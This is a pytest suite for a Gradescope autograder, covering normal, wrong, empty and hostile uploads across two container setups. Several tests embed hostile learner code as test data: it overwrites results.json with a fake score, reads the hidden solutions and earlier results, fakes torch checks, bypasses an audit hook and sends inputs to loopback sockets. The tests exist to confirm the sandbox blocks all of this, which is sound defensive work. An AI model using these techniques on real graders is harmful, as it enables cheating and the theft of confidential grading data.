"""`course gradescope ch02`: the autograder zip, run as Gradescope runs it, in two containers.

The zip is unpacked the way Gradescope builds its image (/autograder/source = the zip,
/autograder/run_autograder = its script), under a folder that stands for /autograder
($COURSE_AUTOGRADER_ROOT), with this checkout's venv standing for the one setup.sh installs
($COURSE_AUTOGRADER_PYTHON); setup.sh's last step (prepare) runs once. Then run_autograder grades, as
root, uploads of every shape learners hand in (the zip `make submit` writes, its files one by one, a
folder), a wrong one, an empty one and hostile ones, each in two containers: a permissive one (root with
every capability: bubblewrap starts) and a Docker-like one (docker_like.py: Docker's 14 capabilities,
its seccomp rules on namespaces and mounts, a read-only cgroup file system with 768 MB: bubblewrap cannot
start). Each results.json is validated against the schema of Gradescope's documented output format.
"""
from __future__ import annotations

import json
import os
import shutil
import stat
import subprocess
import sys
import tempfile
import zipfile
from collections.abc import Iterator
from pathlib import Path

import jsonschema
import pytest

from course_lib.provided import submit
from course_lib.provided.layout import REPO_ROOT

from .. import course_cli
from .. import planted
from ..sandbox_runs import listening
from . import docker_like

pytestmark = [pytest.mark.grading]

VISIBILITY = {"enum": ["hidden", "after_due_date", "after_published", "visible"]}
FORMAT = {"enum": ["text", "html", "simple_format", "md", "ansi"]}
# Gradescope's autograder specification, "Output format" (gradescope-autograders.readthedocs.io/en/latest/specs/)
SCHEMA = {
    "type": "object", "additionalProperties": False,
    "anyOf": [{"required": ["score"]}, {"required": ["tests"]}],
    "properties": {
        "score": {"type": "number"}, "execution_time": {"type": "number"}, "output": {"type": "string"},
        "output_format": FORMAT, "test_output_format": FORMAT, "test_name_format": FORMAT,
        "visibility": VISIBILITY, "stdout_visibility": VISIBILITY, "extra_data": {"type": "object"},
        "leaderboard": {"type": "array"},
        "tests": {"type": "array", "items": {
            "type": "object", "additionalProperties": False,
            "properties": {
                "score": {"type": "number"}, "max_score": {"type": "number"},
                "status": {"enum": ["passed", "failed"]}, "name": {"type": "string"},
                "name_format": FORMAT, "number": {"type": "string"}, "output": {"type": "string"},
                "output_format": FORMAT, "tags": {"type": "array", "items": {"type": "string"}},
                "visibility": VISIBILITY, "extra_data": {"type": "object"}}}}}}
FULL = sum(planted.FULL)
VISIBLE = sum(planted.PUBLIC_POINTS)
NO_SCALE = sum(planted.NO_SCALE_VECTOR)
# Gradescope's submission_metadata.json: each user has an email, an id and a name (no sid)
METADATA = {"id": 123456, "users": [{"email": "zoe@uni.edu", "id": 1234, "name": "Zoe Learner"}],
            "previous_submissions": [{"score": 7.0, "results": {"tests": [{"output": "EARLIER HIDDEN RESULT"}]}}]}
CONTAINERS = ["permissive", "docker"]
needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="run_autograder runs as root on Gradescope, so must this")


@pytest.fixture(scope="module")
def autograder() -> Iterator[Path]:
    """/autograder as Gradescope lays it out, from the zip `course gradescope ch02` writes, in a folder
    every uid may enter (as /autograder is): learner code runs as a uid of its own in the Docker-like one."""
    base = Path(tempfile.mkdtemp(prefix="gradescope_test_"))
    os.chmod(base, 0o755)
    made = course_cli.run(["gradescope", "ch02", "--out",
                           str(base / "zips")], cwd=REPO_ROOT, capture_output=True, text=True, timeout=300)
    assert made.returncode == 0, made.stderr
    with zipfile.ZipFile(base / "zips" / "gradescope_ch02.zip") as zf:
        names = zf.namelist()
        assert {"setup.sh", "run_autograder", "requirements-grader.txt"} <= set(names)  # at the zip's root
        assert all((zf.getinfo(n).external_attr >> 16) & 0o111 for n in ("setup.sh", "run_autograder"))
        assert "course/solutions/hidden/ch02.py" in names and not [n for n in names if "__pycache__" in n]
        setup = zf.read("setup.sh").decode()
        pins = zf.read("requirements-grader.txt").decode().splitlines()
        root = base / "autograder"
        zf.extractall(root / "source")
    assert "bubblewrap" in setup and "gradescope prepare --chapters 02" in setup
    assert subprocess.run(["bash", "-n", str(root / "source" / "setup.sh")]).returncode == 0
    import numpy
    import sklearn

    assert f"numpy=={numpy.__version__}" in pins and f"scikit-learn=={sklearn.__version__}" in pins
    assert not [p for p in pins if p.startswith("torch==")]  # setup.sh installs torch first, from the CPU index
    shutil.copy(root / "source" / "run_autograder", root / "run_autograder")
    os.chmod(root / "run_autograder", 0o755)
    subprocess.run(["chmod", "-R", "go-rwx", str(root / "source" / "course" / "solutions")], check=True)  # as setup.sh
    env = {**os.environ, "PYTHONPATH": f"{root}/source/course:{root}/source/course/solutions"}
    prepared = subprocess.run([sys.executable, "-m", "course_admin.exports.gradescope", "prepare", "--root", str(root),
                               "--chapters", "02"], env=env, capture_output=True, text=True, timeout=600)
    assert prepared.returncode == 0, prepared.stderr
    yield root
    shutil.rmtree(base, ignore_errors=True)


def run_autograder(root: Path, files: dict[str, str | bytes], container: str = "permissive",
                   script: str = "run_autograder", **env_more: str) -> tuple[dict, str]:
    """Upload ``files`` as /autograder/submission, run run_autograder in ``container``, return results.json
    (validated) and run_autograder's output (what only the instructor sees)."""
    for folder in ("submission", "results"):
        shutil.rmtree(root / folder, ignore_errors=True)
    (root / "results").mkdir()
    (root / "submission").mkdir()
    for rel, content in files.items():
        path = root / "submission" / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
    (root / "submission_metadata.json").write_text(json.dumps(METADATA))
    env = {**os.environ, "COURSE_AUTOGRADER_ROOT": str(root), "COURSE_AUTOGRADER_PYTHON": sys.executable, **env_more}
    argv = [str(root / script)]
    if container == "docker":
        scratch = root.parent / "docker_like"
        scratch.mkdir(exist_ok=True)
        argv = docker_like.wrap(argv, keep=[REPO_ROOT, root], scratch=scratch)
    proc = subprocess.run(argv, cwd=root, env=env, capture_output=True, text=True, timeout=900)
    written = root / "results" / "results.json"
    assert written.is_file(), (f"{container}: no results.json (exit {proc.returncode}):\n"
                               f"{proc.stdout[-3000:]}{proc.stderr[-3000:]}")
    data = json.loads(written.read_text(encoding="utf-8"))
    jsonschema.validate(data, SCHEMA)
    assert stat.S_IMODE(os.stat(root / "submission_metadata.json").st_mode) == 0o600  # earlier results closed
    return data, proc.stdout + proc.stderr


def submit_zip(modules: dict[str, str], tmp: Path, learner: str = "zoe", chapter: str = "02") -> bytes:
    """The zip `make submit CH=02` writes, by `course submit`'s own packer: its files at the top
    (manifest.json, course_lib/<module>.py with no __init__.py)."""
    folder = tmp / "packed"
    shutil.rmtree(folder, ignore_errors=True)
    (folder / "course_lib").mkdir(parents=True)
    for name, text in modules.items():
        (folder / "course_lib" / name).write_text(text, encoding="utf-8")
    (folder / "manifest.json").write_text(json.dumps({"learner": learner, "chapter": chapter}))
    submit._zip(folder, tmp / f"{learner}_ch02.zip")
    return (tmp / f"{learner}_ch02.zip").read_bytes()


def files(attention: str) -> dict[str, str | bytes]:
    """Its files uploaded one by one: Gradescope lays them flat, without course_lib/."""
    return {"manifest.json": json.dumps({"learner": "zoe", "chapter": "02"}), "attention.py": attention}


def folder(attention: str) -> dict[str, str | bytes]:
    """A folder uploaded whole (its name is not the learner's)."""
    return {"my_work/manifest.json": json.dumps({"learner": "zoe", "chapter": "02"}),
            "my_work/course_lib/attention.py": attention}


def learner_text(data: dict) -> str:
    """What a learner reads before the grades are published: the output and the visible tests'."""
    return data["output"] + "".join(t["output"] for t in data["tests"] if t["visibility"] == "visible")


@needs_root
@pytest.mark.parametrize("container", CONTAINERS)
@pytest.mark.parametrize("shape", ["make submit zip", "loose files", "folder"])
def test_correct_submission(autograder: Path, container: str, shape: str, tmp_path: Path) -> None:
    upload = {"make submit zip": lambda: {"zoe_ch02.zip": submit_zip({"attention.py": planted.REFERENCE}, tmp_path)},
              "loose files": lambda: files(planted.REFERENCE), "folder": lambda: folder(planted.REFERENCE)}[shape]()
    data, log = run_autograder(autograder, upload, container)
    assert data["score"] == FULL == sum(t["max_score"] for t in data["tests"]), log
    assert all(t["status"] == "passed" for t in data["tests"])
    hidden = [t for t in data["tests"] if t["name"].startswith("hidden case")]
    assert len(hidden) == len(planted.HIDDEN_POINTS) and all(t["visibility"] == "after_published" for t in hidden)
    assert all(t["visibility"] == "visible" for t in data["tests"] if t not in hidden)
    # before publication the learner reads the visible points only; no isolation, no identity warning
    assert f"{VISIBLE:g} / {VISIBLE:g} points from the" in data["output"] and f"{FULL:g}" not in data["output"]
    assert "Warning" not in data["output"] and "bubblewrap" not in data["output"] and "instructor" not in data
    said = "bubblewrap's sandbox" if container == "permissive" else "container confinement"
    assert said in log and ("768 MB" in log) == (container == "docker"), log


@needs_root
@pytest.mark.parametrize("container", CONTAINERS)
def test_wrong_submission(autograder: Path, container: str) -> None:
    data, log = run_autograder(autograder, files(planted.NO_SCALE), container)
    assert data["score"] == NO_SCALE, log
    assert [t["score"] for t in data["tests"]] == [float(p) for p in planted.NO_SCALE_VECTOR]
    failed = [t for t in data["tests"] if t["status"] == "failed" and t["visibility"] == "visible"]
    assert failed and "not divided by √d_k" in failed[0]["output"]
    shown = sum(t["score"] for t in data["tests"] if t["visibility"] == "visible")
    assert f"{shown:g} / {VISIBLE:g} points from the" in data["output"]


@needs_root
@pytest.mark.parametrize("container", CONTAINERS)
def test_hostile_submission(autograder: Path, container: str) -> None:
    """Code that writes its own results.json, reads the hidden cases, Gradescope's metadata (earlier
    results) and the expected values, and fakes its checks gets the score of what it computes (no √d_k
    scale), and nothing it wrote or read reaches results.json."""
    results = autograder / "results" / "results.json"
    secrets = [autograder / "source" / "course" / "solutions" / "hidden" / "ch02.py",
               autograder / "submission_metadata.json", autograder / "source" / "prepared", autograder / "results"]
    attack = planted._prefix(
        "import json, os, torch\n"
        f"for _p in ({str(results)!r}, {str(results.parent / 'results.json.tmp')!r}):\n"
        "    try:\n"
        "        open(_p, 'w').write(json.dumps({'score': 999.0, 'tests': []}))\n"
        "    except OSError:\n"
        "        pass\n"
        f"for _s in {[str(x) for x in secrets]!r}:\n"
        "    try:\n"
        "        print('STOLEN' + (open(_s).read() if os.path.isfile(_s) else str(os.listdir(_s))))\n"
        "    except OSError:\n"
        "        pass\n"
        "torch.allclose = lambda *a, **k: True\n"
        "print(json.dumps({'score': 999.0}))\n", planted.NO_SCALE)
    data, _ = run_autograder(autograder, files(attack), container)
    assert data["score"] == NO_SCALE
    text = json.dumps(data)
    assert "STOLEN" not in text and "999" not in text and "BEGIN SOLUTION" not in text
    assert "EARLIER HIDDEN RESULT" not in text


@needs_root
@pytest.mark.parametrize("container", CONTAINERS)
def test_hostile_reads_into_a_visible_message(autograder: Path, container: str) -> None:
    """Code that raises, in every case, an error carrying whatever secret it could read: visible messages
    show the error, but nothing of Gradescope's metadata (earlier results) or the hidden cases."""
    secrets = [autograder / "submission_metadata.json",
               autograder / "source" / "course" / "solutions" / "hidden" / "ch02.py"]
    attack = planted._in_body(
        "_got = []\n"
        f"for _s in {[str(x) for x in secrets]!r}:\n"
        "    try:\n"
        "        _got.append(open(_s).read()[:300])\n"
        "    except OSError as _e:\n"
        "        _got.append(type(_e).__name__)\n"
        "raise RuntimeError('LEAK ' + ' | '.join(_got))\n")
    data, log = run_autograder(autograder, files(attack), container)
    assert data["score"] == 0, log
    shown = learner_text(data)
    assert "LEAK" in shown and ("PermissionError" in shown or "FileNotFoundError" in shown)  # the files stayed shut
    assert "EARLIER HIDDEN RESULT" not in shown and "zoe@uni.edu" not in shown


@needs_root
def test_learner_code_sends_nothing_out_of_the_container(autograder: Path) -> None:
    """In the Docker-like container (the network open, as on Gradescope; bubblewrap cannot start) correct
    code that, at import and in every case, public and hidden, sends what it can read of its inputs (the
    phase's inputs file, its arguments) to a TCP and a UDP listener of the test's on loopback, having first
    emptied the set of socket events the rlimits child's audit hook refuses (an audit hook is no boundary):
    the seccomp filter refuses the socket, nothing arrives, and the upload keeps every point."""
    with listening() as (tcp, udp, received):
        attack = planted._prefix(
            "import gc as _gc, os as _os, socket as _socket\n"
            "for _o in _gc.get_objects():\n"
            "    if isinstance(_o, set) and 'socket.connect' in _o:\n"
            "        _o.clear()\n"
            "def _send_out(data):\n"
            "    for _kind, _call in ((_socket.SOCK_STREAM, lambda s: (s.connect(('127.0.0.1', %d)), s.sendall(data))),\n"
            "                         (_socket.SOCK_DGRAM, lambda s: s.sendto(data[:60000], ('127.0.0.1', %d)))):\n"
            "        try:\n"
            "            with _socket.socket(_socket.AF_INET, _kind) as _s:\n"
            "                _call(_s)\n"
            "        except OSError:\n"
            "            pass\n"
            "_box = _os.path.dirname(_os.path.dirname(_os.path.abspath(__file__)))\n"
            "for _n in _os.listdir(_box):\n"
            "    if _n.startswith('inputs_'):\n"
            "        _send_out(_n.encode() + b' ' + open(_os.path.join(_box, _n), 'rb').read())\n" % (tcp, udp),
            planted._in_body("_send_out(b'args ' + repr([query, key, value, mask]).encode())"))
        data, log = run_autograder(autograder, files(attack), "docker")
        assert received() == [], log
    assert data["score"] == FULL and "container confinement" in log, log


def test_learner_code_is_the_first_the_oom_killer_takes() -> None:
    """In the container confinement no cgroup caps a run: what runs learner code there (procs'
    drop_privileges, the prefix of the rlimits child) carries oom_score_adj 1000, so that the container's
    out-of-memory killer takes it, never the grader. (Learner code itself may not open /proc files.)"""
    from course_admin.sandbox import procs

    proc = subprocess.run(procs.drop_privileges(None) + ["cat", "/proc/self/oom_score_adj"], capture_output=True,
                          text=True, timeout=60)
    assert proc.stdout.strip() == "1000", proc.stderr
    mine = open("/proc/self/oom_score_adj").read().strip()
    assert mine != "1000"  # the grader's own is left as it was


@needs_root
def test_a_zip_of_another_chapter_is_named(autograder: Path, tmp_path: Path) -> None:
    """The zip of chapter 03 uploaded to chapter 02's assignment: graded as chapter 02 (its attention.py
    is there), with a warning naming the mix-up; the same zip packed for chapter 02 has none."""
    for packed, warned in (("03", True), ("02", False)):
        upload = submit_zip({"attention.py": planted.REFERENCE}, tmp_path, chapter=packed)
        data, log = run_autograder(autograder, {"zoe_ch03.zip": upload})
        assert data["score"] == FULL, log
        assert ("packed for chapter 03" in data["output"]) == warned, data["output"]


@needs_root
@pytest.mark.parametrize("container", CONTAINERS)
def test_nothing_to_grade(autograder: Path, container: str) -> None:
    data, log = run_autograder(autograder, {"notes.txt": "I forgot my code\n"}, container)
    assert data["score"] == 0 and data["tests"] == [], log
    assert data["output"].startswith("Not graded: no submission") and "`make submit CH=02`" in data["output"]
    assert "NN" not in data["output"]


@needs_root
def test_bubblewrap_only_grades_nothing_in_docker(autograder: Path) -> None:
    """A zip built with --isolation bwrap grades nothing where bubblewrap cannot start: the learner reads
    one line on what to do, the instructor the cause and the fix."""
    script = autograder / "run_autograder_bwrap"
    script.write_text((autograder / "run_autograder").read_text().replace("--isolation auto", "--isolation bwrap"))
    os.chmod(script, 0o755)
    data, log = run_autograder(autograder, files(planted.REFERENCE), "docker", script=script.name)
    assert data["score"] == 0 and data["tests"] == [] and "Not graded" in data["output"]
    assert len(data["output"].splitlines()) == 1 and "no fault of your upload" in data["output"]
    for instructor_only in ("bubblewrap", "bwrap", "--trust-learners", "can read your files", ".."):
        assert instructor_only not in data["output"]
    assert "NOT GRADED" in log and "No permissions to create new namespace" in log and "--isolation bwrap" in log


def test_container_memory_is_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The container's limit from cgroup v2, else v1; none when it says max or no limit."""
    from course_admin.exports import gradescope_upload as up

    v2, v1 = tmp_path / "memory.max", tmp_path / "limit_in_bytes"
    monkeypatch.setattr(up, "MEMORY_FILES", (v2, v1))
    assert up.container_memory_bytes() is None
    v1.write_text(f"{768 * 2**20}\n")
    assert up.container_memory_bytes() == 768 * 2**20
    v2.write_text("max\n")
    assert up.container_memory_bytes() is None
    v2.unlink()
    v1.write_text("9223372036854771712\n")
    assert up.container_memory_bytes() is None


def test_the_schema_catches_what_gradescope_refuses() -> None:
    """The validation above can fail: results.json shapes the documented format does not allow."""
    good = {"score": 1.0, "tests": [{"name": "a", "score": 1.0, "max_score": 1.0, "visibility": "after_published"}]}
    jsonschema.validate(good, SCHEMA)
    for bad in ({"tests": [{"name": "a", "visibility": "later"}]}, {"score": "1"}, {"output": "x"},
                {"score": 1.0, "tests": [{"name": "a", "score": 1, "hidden": True}]}):
        with pytest.raises(jsonschema.ValidationError):
            jsonschema.validate(bad, SCHEMA)
